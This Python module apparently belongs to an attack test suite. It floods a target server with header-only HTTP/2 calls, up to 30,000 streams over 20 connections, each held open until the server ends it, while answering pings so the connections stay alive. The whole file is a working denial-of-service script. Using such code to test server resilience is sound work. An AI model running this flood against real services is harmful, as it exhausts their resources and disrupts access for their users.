"""30,000 calls that are only headers (43), each open until the coordinator ends it, where no token is asked for."""

from __future__ import annotations

import contextlib
import time

from tests.attack.target import CLAIM, Setting, Target
from tests.attack.wire import END_HEADERS, HEADERS, PING, SETTINGS, Connection, call_headers, frame

SETTING = Setting(tokens=False)
STREAMS, CONNECTIONS = 30_000, 20
#: How many calls of a connection are open at a time; more would break the connection.
_OPEN = 128
_SECONDS = 60.0


class _Caller:
    """A connection with as many calls on it as it takes."""

    def __init__(self, endpoint: str, calls: int) -> None:
        self._connection = Connection(endpoint)
        self._block = call_headers(CLAIM)
        self._left = calls
        self._next = 1
        self._open: set[int] = set()

    def go_on(self) -> int:
        """Open as many calls as have room, and see which were ended; returns how many were opened."""
        for kind, flags, stream, payload in self._connection.frames(0.0):
            if kind in {PING, SETTINGS} and not flags:
                self._connection.send(frame(kind, 1, 0, payload if kind == PING else b""))
            elif flags & 1 or kind == 3:
                self._open.discard(stream)
        count = min(self._left, _OPEN - len(self._open))
        streams = [self._next + 2 * number for number in range(count)]
        self._next += 2 * count
        self._left -= count
        self._open |= set(streams)
        self._connection.send(b"".join(frame(HEADERS, END_HEADERS, each, self._block) for each in streams))
        return count

    def close(self) -> None:
        self._connection.close()


def attack(target: Target, share: float) -> str:
    streams, sent = max(3_000, round(STREAMS * share)), 0
    until = time.monotonic() + _SECONDS
    callers = [_Caller(target.endpoint, streams // CONNECTIONS) for _ in range(CONNECTIONS)]
    while sent < streams // CONNECTIONS * CONNECTIONS and time.monotonic() < until:
        for caller in callers:
            with contextlib.suppress(OSError):
                sent += caller.go_on()
        time.sleep(0.002)
    time.sleep(1)
    for caller in callers:
        caller.close()
    return f"{sent} calls of headers only"
